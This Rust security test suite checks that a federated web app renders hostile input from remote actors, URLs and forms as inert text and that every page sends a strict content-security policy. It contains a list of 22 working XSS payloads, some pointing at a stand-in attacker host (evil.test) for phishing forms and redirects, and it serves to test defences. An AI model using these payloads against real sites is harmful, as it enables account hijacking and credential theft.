//! Markup (XSS): whatever a stranger writes, a page stays ours.

use anyhow::ensure;
use hansa_entities::record::RecordKind;
use http::{HeaderMap, HeaderValue, Method, header};
use quick_xml::events::Event;
use rig::attacker::{Stage, article, reply_to, url_in};
use rig::{Browser, City, Person, Reply, both_engines, fixtures, on_sqlite};
use scraper::{Html, Selector};
use serde_json::{Value, json};

/// What would act if it came through. Each says `pwned` where it acts.
const ATTACKS: [&str; 22] = [
    "<script>alert('pwned')</script>",
    "\"><script>alert('pwned')</script>",
    "'><img src=x onerror=alert('pwned')>",
    "</title><script>alert('pwned')</script>",
    "</textarea><script>alert('pwned')</script>",
    "--><svg onload=alert('pwned')>",
    "<a href=\"java\tscript:alert('pwned')\">x</a>",
    "<a href='vbscript:pwned'>x</a>",
    "<base href='https://evil.test/pwned/'>",
    "<a href='data:text/html,<script>pwned</script>'>x</a>",
    "<form action='https://evil.test/pwned'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/pwned'>",
    "<iframe srcdoc='<script>pwned</script>'></iframe>",
    "<p style='background:url(https://evil.test/pwned)' class='banner shell__skip' id='main'>x</p>",
    "]]><script>pwned</script>",
    "<math><mtext><mglyph><style><img src=x onerror=pwned>",
    "<style>@import 'https://evil.test/pwned'</style>",
    "{{7*7}}${7*7}<%=7*7%>",
    "<img src='https://evil.test/pwned.png'>",
    "<details open ontoggle=alert('pwned')>",
    "<button formaction='javascript:pwned'>x",
    "<link rel=stylesheet href='https://evil.test/pwned.css'>",
];

/// Fails where anything on a page is not ours or would act.
fn judge(path: &str, html: &str) -> anyhow::Result<()> {
    let page = Html::parse_document(html);
    let all = Selector::parse("*").map_err(|error| anyhow::anyhow!("{error}"))?;
    for element in page.select(&all) {
        let (name, html) = (element.value().name(), element.html());
        let shown: String = html.chars().take(200).collect();
        let is_bad = matches!(
            name,
            "style" | "iframe" | "object" | "embed" | "base" | "img" | "math" | "audio" | "video" | "frame"
        );
        ensure!(!is_bad, "{path}: {shown}");
        for (attribute, value) in element.value().attrs() {
            let value = value.trim().to_ascii_lowercase();
            ensure!(
                !attribute.starts_with("on") && attribute != "style" && attribute != "srcdoc",
                "{path}: {shown}"
            );
            let is_ours = (value.starts_with(['/', '#', '?']) && !value.starts_with("//"))
                || value.starts_with("https://city.test/");
            match attribute {
                "href" if name == "a" || element.value().attr("rel") == Some("alternate") => ensure!(
                    is_ours || value.starts_with("https://") || value.starts_with("http://"),
                    "{path}: {shown}"
                ),
                "href" | "src" | "action" | "formaction" | "xlink:href" => {
                    ensure!(is_ours, "{path}: {shown}")
                }
                "http-equiv" => anyhow::bail!("{path}: {shown}"),
                _ => {}
            }
        }
        ensure!(name != "script" || element.text().collect::<String>().trim().is_empty(), "{path}: {shown}");
    }
    let one = |selector: &str| Selector::parse(selector).map(|found| page.select(&found).count());
    ensure!(
        one("#main").is_ok_and(|count| count == 1) && one("h1").is_ok_and(|count| count == 1),
        "{path}: {html}"
    );
    ensure!(!html.contains("49$49") && !html.contains("{49}"), "{path}: a template ran");
    Ok(())
}

/// Reads pages, with what only an administrator sees.
async fn read(browser: &mut Browser, paths: &[String]) -> anyhow::Result<()> {
    for path in paths {
        let page = browser.open(path).await?;
        judge(path, &page.html())?;
        let policy = page.response.header("content-security-policy");
        for rule in [
            "default-src 'none'",
            "script-src 'self'",
            "form-action 'self'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
        ] {
            ensure!(policy.contains(rule) && !policy.contains("unsafe"), "{path}: {policy}");
        }
    }
    Ok(())
}

async fn require_well_formed(city: &City) -> anyhow::Result<usize> {
    let answer = city.ask(Method::GET, "/feed.atom?limit=100", &HeaderMap::new(), b"").await?.expect(200)?;
    let text = answer.text();
    let mut reader = quick_xml::Reader::from_str(&text);
    let (mut entries, mut depth) = (0, 0_i32);
    loop {
        match reader.read_event()? {
            Event::Start(tag) => {
                depth += 1;
                entries += usize::from(tag.name().as_ref() == b"entry");
                ensure!(tag.name().as_ref() != b"script", "{text}");
            }
            Event::End(_) => depth -= 1,
            Event::Eof => break,
            _ => {}
        }
    }
    ensure!(depth == 0, "{text}");
    Ok(entries)
}

both_engines! {
    async fn nothing_that_a_server_says_acts_on_a_page_xss_01_xss_03_xss_04_xss_06(world) {
        let stage = Stage::of(world).await?;
        let (city, evil) = (&stage.city, &stage.evil);
        let ours = city.publish_initiative("Ours").await?;
        stage.befriend(evil).await?;
        let texts = ["name", "summary", "content", "hansa:place", "hansa:leadOrganisation", "hansa:startDate", "hansa:problem",
            "hansa:howItWorks", "hansa:whatWasTried", "hansa:lesson", "hansa:whyUseful", "hansa:organisation", "hansa:country",
            "schema:license", "hansa:wouldRepeatNote", "hansa:initiativeStatus", "hansa:changeNote"];
        let kinds = ["hansa:Initiative", "hansa:Experience", "hansa:Resource", "Note"];
        for (number, attack) in ATTACKS.iter().enumerate() {
            let mut object = article(evil, "x");
            object["additionalType"] = json!(kinds[number % kinds.len()]);
            for field in texts {
                object[field] = json!(attack);
                object[format!("{field}Map")] = json!({ "en": attack, "x\"><script>pwned": attack });
            }
            for field in ["hansa:problem", "hansa:lesson", "hansa:whyUseful", "hansa:changeNote"] {
                object[field] = json!({ "en": attack, (*attack): attack });
            }
            for field in ["hansa:theme", "hansa:languages", "hansa:targetGroup", "hansa:resourceType", "hansa:preventionLevel"] {
                object[field] = json!([attack, "EDU"]);
            }
            for field in ["url", "hansa:link", "hansa:about", "image", "icon"] {
                object[field] = json!(["javascript:pwned", "data:text/html,pwned", "//evil.test/pwned", attack]);
            }
            object["attachment"] = json!([{ "type": "Link", "href": "javascript:pwned", "name": attack }]);
            object["tag"] = json!([{ "type": "Hashtag", "name": attack, "href": "javascript:pwned" }]);
            stage.bring(evil, &evil.activity("Create", object)).await?;
            let mut reply = reply_to(evil, &json!(ours), "x");
            (reply["content"], reply["hansa:replyKind"]) = (json!(attack), json!(attack));
            reply["contentMap"] = json!({ "en": attack });
            stage.bring(evil, &evil.activity("Create", reply)).await?;
            // Its own name.
            city.hands().seconds(1);
            let mut document = evil.document();
            for field in ["name", "summary", "hansa:country", "hansa:contact", "webfinger", "hansa:populationBand"] {
                document[field] = json!(attack);
            }
            (document["nameMap"], document["summaryMap"]) = (json!({ "en": attack }), json!({ "en": attack }));
            (document["url"], document["icon"]) = (json!("javascript:pwned"), json!("data:text/html,pwned"));
            document["hansa:themesOffered"] = json!([attack]);
            document["hansa:languages"] = json!([attack]);
            document["updated"] = json!(city.hands().at().to_rfc3339());
            stage.bring(evil, &evil.activity("Update", document)).await?;
        }
        let rows = city.records().await?;
        ensure!(rows.len() == ATTACKS.len() + 1, "{} records stand", rows.len());
        let mut paths: Vec<String> = ["/", "/feed?limit=100", "/figures", "/cities", "/follows", "/admin", "/admin/peers", "/admin/audit", "/admin/domains"]
            .map(str::to_owned).into();
        for row in &rows {
            paths.push(format!("/{}/{}", if row.local { "o" } else { "r" }, row.id));
        }
        paths.push(format!("/cities/{}", rows.iter().find(|row| !row.local).map(|row| row.actor_id.to_string()).unwrap_or_default()));
        let mut administrator = Person::administrator(city)?.browser();
        read(&mut administrator, &paths).await?;
        administrator.languages = "fr".to_owned();
        read(&mut administrator, &paths[..4]).await?;
        ensure!(require_well_formed(city).await? == rows.len());
        Ok(())
    }
}

on_sqlite! {
    async fn nothing_that_a_user_name_holds_acts_or_turns_the_line_xss_03_xss_09(world) {
        let stage = Stage::of(world).await?;
        let (city, evil) = (&stage.city, &stage.evil);
        for name in ["<b>x", "a\"b", "a'b", "a b", "a@b", "a/b", "a\\b", "", "\u{0}x", "a&b", "a?b", "a#b", "line\nbreak"] {
            let mut document = evil.document();
            document["preferredUsername"] = json!(name);
            evil.put(evil.actor().path(), Reply::activity(&document));
            city.hands().seconds(301);
            let sealed = rig::attacker::Letter::of(evil, city, &evil.follow(city)).seal(0)?;
            stage.refuse(&sealed, 401, 1).await?;
        }
        let pile = format!("Z{}algo", "\u{300}\u{301}\u{302}".repeat(200));
        let odd = format!("Ville\u{202e}exe\u{2067}\u{200b}\u{feff} {pile}");
        let mut document = evil.document();
        document["preferredUsername"] = json!("bad\u{202e}eman\u{200b}");
        (document["name"], document["nameMap"]) = (json!(odd), json!({ "en": odd }));
        evil.put(evil.actor().path(), Reply::activity(&document));
        city.hands().seconds(301);
        stage.befriend(evil).await?;
        let record = city.publish_initiative("Ours").await?;
        let reply = reply_to(evil, &json!(record), "A reply.");
        stage.bring(evil, &evil.activity("Create", reply)).await?;
        let mut object = article(evil, &odd);
        object["summary"] = json!(odd);
        stage.bring(evil, &evil.activity("Create", object.clone())).await?;
        let mut browser = Person::administrator(city)?.browser();
        let here = format!("/r/{}", city.id(&url_in(&object, "id")?).await?);
        for path in ["/", "/feed", "/cities", "/follows", record.path(), &here] {
            let html = browser.open(path).await?.html();
            for character in ['\u{202e}', '\u{2067}', '\u{200b}', '\u{feff}'] {
                ensure!(!html.contains(character), "{path}: {character:?}");
            }
            ensure!(!html.contains("\u{300}\u{301}\u{302}\u{300}\u{301}"), "{path}: a pile of marks");
            // A name stands alone in its direction.
            let page = Html::parse_document(&html);
            let handles = Selector::parse("bdi").map_err(|error| anyhow::anyhow!("{error}"))?;
            let isolated: Vec<String> = page.select(&handles).map(|found| found.text().collect()).collect();
            let count = html.matches("@bademan@evil.test").count();
            let inside = isolated.iter().filter(|text| text.contains("@bademan@evil.test")).count();
            ensure!(count == inside, "{path}: {count} handles, {inside} of them isolated");
        }
        Ok(())
    }

    async fn what_stands_in_an_address_never_comes_back_as_markup_xss_03(world) {
        let stage = Stage::of(world).await?;
        let city = &stage.city;
        let record = city.publish_initiative("Ours").await?;
        let mut browser = Person::administrator(city)?.browser();
        let mut paths = Vec::new();
        for attack in ATTACKS {
            let attack: String = url::form_urlencoded::byte_serialize(attack.as_bytes()).collect();
            for path in ["/?theme=", "/?country=", "/?done=", "/?lang=", "/?x=", "/nowhere/", "/?after=", "/cities/", "/join/", "/o/",
                "/account?done=", "/follows?done="]
            {
                paths.push(format!("{path}{attack}"));
            }
            paths.push(format!("{}?answer={attack}", record.path()));
            paths.push(format!("{}?in={attack}", record.path()));
        }
        read(&mut browser, &paths).await?;
        let mut stranger = Browser::new(city);
        let paths: Vec<String> = ATTACKS.iter().map(|attack| {
            let attack: String = url::form_urlencoded::byte_serialize(attack.as_bytes()).collect();
            format!("/sign-in?next={attack}")
        }).collect();
        read(&mut stranger, &paths).await?;
        for attack in ATTACKS {
            let page = stranger.send("/sign-in", &[("email", attack), ("password", attack), ("next", attack)]).await?;
            if page.status() == 422 {
                judge("/sign-in", &page.html())?;
            }
        }
        Ok(())
    }

    async fn what_an_officer_types_is_text_xss_01_xss_03(world) {
        let stage = Stage::of(world).await?;
        let city = &stage.city;
        let mut browser = Person::administrator(city)?.browser();
        for attack in ATTACKS {
            let mut form = fixtures::initiative(attack);
            for field in ["abstract", "problem", "how_it_works", "place", "lead_organisation"] {
                form.insert(field.to_owned(), Value::from(attack));
            }
            let uri = city.publish(RecordKind::Initiative, &form).await?;
            city.reply(&uri, attack).await?;
            let paths = [uri.path().to_owned(), format!("{}/versions", uri.path())];
            read(&mut browser, &paths).await?;
            let editor = browser.send(&format!("{}/edit", uri.path()), &[]).await?;
            ensure!(editor.status() == 200 && editor.at.starts_with("/drafts/"), "{}", editor.at);
            judge(&editor.at, &editor.html())?;
            // The same words as a document: HTML in it is safe for whoever shows it.
            let object = city.document(&uri).await?.expect(200)?.json()?;
            for field in ["content", "summary"] {
                let html = object[field].as_str().unwrap_or_default().to_lowercase();
                ensure!(!html.contains("<script") && !html.contains("<img") && !html.contains("=\"javascript"), "{field}: {html}");
            }
        }
        ensure!(require_well_formed(city).await? == ATTACKS.len());
        // What a form brings back.
        for attack in ATTACKS {
            let page = browser.send("/initiatives/new", &[("title", attack), ("abstract", attack), ("language", attack), ("themes", attack),
                ("act", "publish")]).await?;
            judge("/initiatives/new", &page.html())?;
        }
        read(&mut browser, &["/feed".to_owned(), "/drafts".to_owned()]).await
    }

    async fn every_page_carries_the_policy_of_what_may_run_xss_10(world) {
        let stage = Stage::of(world).await?;
        let city = &stage.city;
        let record = city.publish_initiative("Ours").await?;
        let gone = city.publish_initiative("Gone").await?;
        city.withdraw(&gone).await?;
        for path in ["/", "/feed", "/figures", "/about", "/cities", "/sign-in", "/nowhere", "/feed.atom", "/account", "/admin", "/drafts", "/join/x", "/feed?limit=0",
            "/livez", "/api/v1/feed", "/api/v1/nothing", "/ns", "/nodeinfo/2.1", record.path(), gone.path(), "/a/city", "/inbox", "//evil.test/"]
        {
            for accept in ["text/html", "application/activity+json"] {
                for method in [Method::GET, Method::HEAD, Method::POST, Method::DELETE, Method::OPTIONS] {
                    let mut headers = HeaderMap::new();
                    headers.insert(header::ACCEPT, HeaderValue::from_str(accept)?);
                    let answer = city.ask(method.clone(), path, &headers, b"").await?;
                    let policy = answer.header("content-security-policy");
                    ensure!(policy.contains("default-src 'none'") && policy.contains("frame-ancestors 'none'"), "{method} {path}: {policy:?}");
                    ensure!(answer.header("x-content-type-options") == "nosniff", "{method} {path}");
                    ensure!(answer.header("referrer-policy") == "same-origin", "{method} {path}");
                    ensure!(!answer.status.is_server_error(), "{method} {path}: {}", answer.status);
                    let location = answer.header("location");
                    ensure!(location.is_empty() || (location.starts_with('/') && !location.starts_with("//")), "{path} leads to {location}");
                }
            }
        }
        Ok(())
    }
}
